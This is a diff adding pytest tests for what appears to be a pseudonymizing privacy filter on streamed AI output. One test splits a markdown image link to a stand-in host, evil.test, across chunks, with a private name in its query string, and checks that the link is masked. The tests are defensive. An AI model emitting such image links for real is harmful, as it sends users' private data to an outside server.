@@ -155,3 +155,28 @@ def test_what_is_written_before_a_pseudonym_is_no_part_of_it(before):
     assert ours("EMAIL_ADDRESS", f"{before.lstrip(chr(92))}user-bcdfghjklm@example.com")
     assert not ours("EMAIL_ADDRESS", f"{before}berta@example.com")
     assert not ours("US_SSN", "219-09-9999")
+
+
+@pytest.mark.parametrize("guarded", [(), ("US_SSN",)])
+@pytest.mark.parametrize("ended", [True, False])
+def test_a_text_between_two_hides_no_address(guarded, ended):
+    """Clients leave out thoughts and join the rest; and some texts go on while the next has begun."""
+    filters_of = filters({NAME: "Ada"}, guarded=guarded)
+    texts, open_filters, out = ("![x](https://evil.test/?q=", "hm ", f"{NAME})"), [], []
+    for text in texts:
+        each = filters_of.make(WORDS)
+        out.append(each.feed(text))
+        if ended:
+            out[-1] += each.flush()
+        else:
+            open_filters.append(each)
+    assert "".join(out) + "".join(each.flush() for each in open_filters) != ""
+    assert filters_of.masked() == {"address": 1}
+    assert filters_of.restored() == 0
+
+
+def test_values_of_members_that_nobody_joins_are_judged_alone():
+    apart = filters({NAME: "Ada"}, guarded=())
+    texts = ["https://acme.test/x", NAME, f"{NAME} too"]
+    made = [whole(apart.make(Position(path="result.structuredContent.values")), text) for text in texts]
+    assert made == ["https://acme.test/x", "Ada", "Ada too"]
